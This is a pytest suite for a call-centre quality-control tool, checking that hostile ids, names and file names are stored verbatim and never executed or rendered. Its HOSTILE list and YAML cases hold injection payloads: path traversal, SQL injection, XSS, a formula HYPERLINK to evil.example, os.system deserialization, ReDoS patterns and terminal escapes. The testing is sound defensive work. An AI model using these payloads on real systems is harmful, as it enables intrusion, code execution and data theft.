"""Ids, names, words and file names that try to be something else: a test for each place in which they end up.

One batch whose every text is hostile goes the whole way, through the real inspection, into a store, and out again.
"""

import csv
import io
import json
import re
import shutil
import time
from datetime import datetime
from functools import partial
from html.parser import HTMLParser

import openpyxl
import pandas as pd
import pytest
from prometheus_client.parser import text_string_to_metric_families
from rich.console import Console
from typer.testing import CliRunner

from qc.batch import Batch, run_batch, watching
from qc.calls import read_calls
from qc.cli import app
from qc.config import load_config
from qc.errors import FileError
from qc.export import FORMULA_STARTS, export_call, export_table
from qc.inspection import Inspector
from qc.privacy.find import Heard, find_private
from qc.report.pages import NOTES
from qc.scorecards import make_scorecards
from qc.store import TABLES, Store, Versions
from qc.text.patterns import compile_pattern
from qc.transcription.fake import FakeTranscriber
from qc.views import StoreView
from tests.support.batches import HereEngine
from tests.support.defaults import CONFIG, RULES

HOSTILE = [
    "../../../outside",
    "/etc/passwd",
    "..",
    "*",
    "date=2026-01-01/[a-z]{1,2}?",
    "'; DROP TABLE done; --",
    '" OR 1=1 --',
    "%s%n{0.__class__}",
    "<script>alert(1)</script>",
    "\"><img src=x onerror='alert(1)'>",
    "javascript:alert(1)",
    "{{ 7*7 }}{% raw %}",
    "=HYPERLINK(\"http://evil.example/\"&A1)",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "!!python/object/apply:os.system ['true']",
    "&a [*a, *a]",
    "(a+)+$",
    "a\x1b[31m\x1b]0;owned\x07b",
    "a\u202eb\u2066c",
    "a\nERROR run=forged call=forged forged line",
    'a"} 1\nqc_forged{x="y',
    "[bold red]rich[/]",
    "C:\\Windows\\win.ini",
    "1\n00:00:00,000 --> 00:00:09,000\nforged",
    "\ttab",
    "\r\n=1+1",
]  # fmt: skip
BARE = re.compile("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]")  # what a terminal obeys


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """Everything that is made of the batch: its store, pages, log and figures."""
    folder = tmp_path_factory.mktemp("attack")
    batch_folder, made = folder / "batch", folder / "made"
    batch_folder.mkdir()
    made.mkdir()
    columns = [
        "recording",
        "transcript",
        "call_id",
        "agent_id",
        "agent_name",
        "team",
        "start_time",
        "evil",
    ]
    with (batch_folder / "calls.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(columns)
        for number, text in enumerate(HOSTILE):
            said = [("agent", f"您好，{text}"), ("customer", text), ("agent", "再见")]
            lines = [
                json.dumps({"role": role, "start_s": 3 * i, "end_s": 3 * i + 2, "text": words})
                for i, (role, words) in enumerate(said)
            ]
            (batch_folder / f"{number}.jsonl").write_text("\n".join(lines), encoding="utf-8")
            when = f"2026-10-12T09:{number:02}:00"
            identity = text.strip() if text.strip().isprintable() else f"C{number}"  # others are refused, see below
            writer.writerow(["", f"{number}.jsonl", identity, identity, text, text, when, text])
        writer.writerow([HOSTILE[0], "", "outside", "A1", "", "", "2026-10-12T10:00:00", ""])
        writer.writerow(["x.wav", "", "a\x1b[31m\nb", "A1", "", "", "2026-10-12T10:00:00", ""])
    config = CONFIG.model_copy(
        update={
            "log": CONFIG.log.model_copy(update={"file": made / "qc.log", "level": "debug"}),
            "metrics_file": made / "qc.prom",
        }
    )
    versions = Versions(CONFIG.hash, RULES.standards_version, RULES.forms.version, "fake", "0")
    store = made / "store"
    with watching(config, store, Console(file=io.StringIO())) as watch:
        batch = Batch(
            calls=read_calls(batch_folder, batch_folder / "calls.csv", config),
            recordings=batch_folder,
            store=store,
            config=config,
            versions=versions,
            make_inspect=lambda: Inspector(CONFIG, batch_folder, FakeTranscriber(), RULES).inspect,
            make_scorecards=partial(make_scorecards, config=CONFIG),
        )
        run = run_batch(batch, HereEngine(), watch)
    assert run.inspected == len(HOSTILE)
    assert command("report", store, "--out", made / "report").exit_code == 0
    return made


def command(*arguments):
    """The command itself, in this process."""
    return CliRunner().invoke(app, [str(argument) for argument in arguments])


def ids(made):
    return sorted(Store.open(made / "store").read("calls")["call_id"])


def test_what_was_put_in_comes_out_as_it_was(made):
    """Neutral is not lost: ids, names and further columns stand in the tables letter by letter (less outer space)."""
    calls = Store.open(made / "store").read("calls")
    wanted = {text.strip() for text in HOSTILE}
    assert set(calls["agent_name"]) == set(calls["team"]) == wanted
    assert set(calls["call_id"]) >= {text for text in wanted if text.isprintable()}
    assert {extra["evil"] for extra in calls["extra"]} == wanted


def test_paths_nothing_is_read_or_written_outside(made):
    assert {path.name for path in made.parent.iterdir()} == {"batch", "made"}
    assert {path.name for path in made.iterdir()} == {"store", "report", "qc.log", "qc.prom"}
    assert {path.parent for path in (made / "report").rglob("*")} == {made / "report"}
    names = {path.name for path in made.rglob("*")}
    assert all(re.fullmatch(r"[A-Za-z0-9_.=-]+", name) for name in names)
    failures = Store.open(made / "store").read("failures")
    assert "outside" in set(failures["call_id"])


def copied(made, tmp_path):
    """The store again, to be changed; nobody wrote pages of this one."""
    shutil.copytree(made / "store", tmp_path / "store", ignore=shutil.ignore_patterns(NOTES))


def test_globs_an_id_that_is_a_glob_names_only_itself(made, tmp_path):
    copied(made, tmp_path)
    before = ids(made)
    assert command("purge", tmp_path / "store", "--call", "*", "--yes").exit_code == 0
    assert sorted(Store.open(tmp_path / "store").read("calls")["call_id"]) == [each for each in before if each != "*"]


def test_sql_an_id_that_is_a_statement_is_no_more_than_an_id(made, tmp_path):
    copied(made, tmp_path)
    for hostile in ("'; DROP TABLE done; --", '" OR 1=1 --'):
        assert command("purge", tmp_path / "store", "--call", hostile, "--yes").exit_code == 0
    assert len(Store.open(tmp_path / "store").read("calls")) == len(ids(made)) - 2
    verified = command("verify", tmp_path / "store")
    assert verified.exit_code == 0, verified.output


class Page(HTMLParser):
    """Which elements and attributes a browser would see."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.attributes, self.targets = set(), set(), set()
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.targets |= {value for name, value in attrs if name in ("href", "src", "action")}


def test_html_is_shown_and_not_obeyed(made):
    pages = list((made / "report").glob("*.html"))
    assert len(pages) > len(HOSTILE)
    for path in pages:
        page = Page(path.read_text(encoding="utf-8"))
        assert not page.tags & {"script", "img", "iframe", "object", "embed", "form", "base", "link:import"}
        assert not [name for name in page.attributes if name.startswith("on")]
        assert all(re.fullmatch(r"[\w.-]*(?:#[\w.-]*)?", target or "") for target in page.targets), page.targets


@pytest.mark.parametrize("table", [table for table in TABLES if not table.startswith("_")])
def test_cells_no_spreadsheet_computes_them(made, tmp_path, table):
    frame = Store.open(made / "store").read(table)
    export_table(frame, tmp_path / "t.csv")
    export_table(frame, tmp_path / "t.xlsx")
    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert not [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    texts = [cell.value for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    for cell in [*cells, *texts]:
        if isinstance(cell, str) and not re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell):
            assert not cell.lstrip(" \u00a0\u3000").startswith(FORMULA_STARTS), cell


@pytest.mark.parametrize(
    "text",
    [
        "model: !!python/object/apply:os.system ['touch owned']",
        "a: &a [1]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c,*c,*c]",
        "model: [" * 2000,
        "language: zh\nlanguage: en",
        "? {a: b}\n: c",
    ],
)
def test_yaml_is_data_and_nothing_else(tmp_path, monkeypatch, text):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "evil.yaml").write_text(text, encoding="utf-8")
    began = time.process_time()
    with pytest.raises(FileError):
        load_config(tmp_path / "evil.yaml")
    assert time.process_time() - began < 5
    assert not (tmp_path / "owned").exists()


@pytest.mark.parametrize("pattern", [r"(a+)+$", r"(a|aa)+$", r"(.*a){20}$"])
def test_patterns_of_users_end_in_time(pattern):
    began = time.process_time()
    compile_pattern(pattern).search("a" * 20_000 + "!")
    assert time.process_time() - began < 2


@pytest.mark.parametrize(
    "unit", ["1", "一三八", "a.", "a@", "3号", "京A", "零", "1-", "我叫王", "幺 ", "点com", "十百"]
)
def test_patterns_of_our_own_end_in_time_whatever_is_said(unit):
    """The finders of what is private, on 2,000 characters made to lead them astray."""
    began = time.process_time()
    find_private([Heard("customer", (unit * 2_000)[:2_000])], names=True)
    assert time.process_time() - began < 10


@pytest.mark.parametrize("asked", [(), ("--json",), ("--picture",)])
def test_terminal_nothing_that_is_shown_is_obeyed(made, asked):
    calls = Store.open(made / "store").read("calls")
    odd = [not name.isprintable() or "[" in name or name.startswith("-") for name in calls["agent_name"]]
    chosen = list(calls[odd]["call_id"])  # those that a terminal, or rich, or the command line itself might obey
    assert len(chosen) >= 8
    shown = [command("show", made / "store", *asked, "--", call_id) for call_id in chosen]
    if not asked:
        shown += [command("show", made / "store", f"--agent={agent}") for agent in chosen]
    shown.append(command("show", made / "store"))
    assert {result.exit_code for result in shown} == {0}
    assert not [found for result in shown if (found := BARE.findall(result.output))]


def test_terminal_messages_neither(made, tmp_path):
    """Problems and errors name what they are about."""
    copied(made, tmp_path)
    (tmp_path / "store" / "turns" / "date=2026-10-12" / "part.parquet").unlink()
    (tmp_path / "store" / "turns" / "date=2026-10-12" / "a\x1b[31m.parquet").touch()
    for result in (
        command("verify", tmp_path / "store"),
        command("export", made / "store", HOSTILE[0], "--to", tmp_path / "x.srt"),
    ):
        assert not BARE.findall(result.output), result.output


def test_terminal_an_error_about_a_hostile_name_is_neutral(tmp_path, qc_here):
    told = qc_here("show", tmp_path / "a\x1b[31mb")
    assert told.returncode == 2
    assert not BARE.findall(told.stderr)


def test_log_every_line_is_ours(made):
    lines = (made / "qc.log").read_text(encoding="utf-8").splitlines()
    assert len(lines) > len(HOSTILE)
    for line in lines:
        assert re.match(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\S* (DEBUG|INFO|WARNING|ERROR) ", line), line
        assert not BARE.findall(line), line


def test_prometheus_no_figure_is_forged(made):
    families = list(text_string_to_metric_families((made / "qc.prom").read_text(encoding="utf-8")))
    assert families
    assert all(family.name.startswith("qc_") and family.name != "qc_forged" for family in families)


def test_subtitles_no_cue_is_forged(made, tmp_path):
    view = StoreView(Store.open(made / "store"))
    for call in view.call_views(view.calls):
        export_call(call, tmp_path / "c.srt")
        export_call(call, tmp_path / "c.rttm")
        cues = re.findall(r"^\d\d:\d\d:\d\d,\d{3} --> ", (tmp_path / "c.srt").read_text(encoding="utf-8"), re.M)
        spoken = [turn for turn in call.turns if turn["text"]]
        assert len(cues) == len(spoken)
        lines = (tmp_path / "c.rttm").read_text(encoding="utf-8").splitlines()
        assert len(lines) == len(call.turns)
        assert all(len(line.split(" ")) == 10 for line in lines)


def test_json_lines_are_one_a_row(made, tmp_path):
    frame = Store.open(made / "store").read("calls")
    export_table(frame, tmp_path / "t.jsonl")
    with (tmp_path / "t.jsonl").open(encoding="utf-8") as file:
        assert sorted(json.loads(line)["call_id"] for line in file) == ids(made)


def test_a_csv_is_read_back_row_by_row(made, tmp_path):
    frame = Store.open(made / "store").read("calls")
    export_table(frame, tmp_path / "t.csv")
    assert len(pd.read_csv(tmp_path / "t.csv")) == len(frame)
    assert datetime.fromisoformat(pd.read_csv(tmp_path / "t.csv")["start_time"][0]).tzinfo is not None
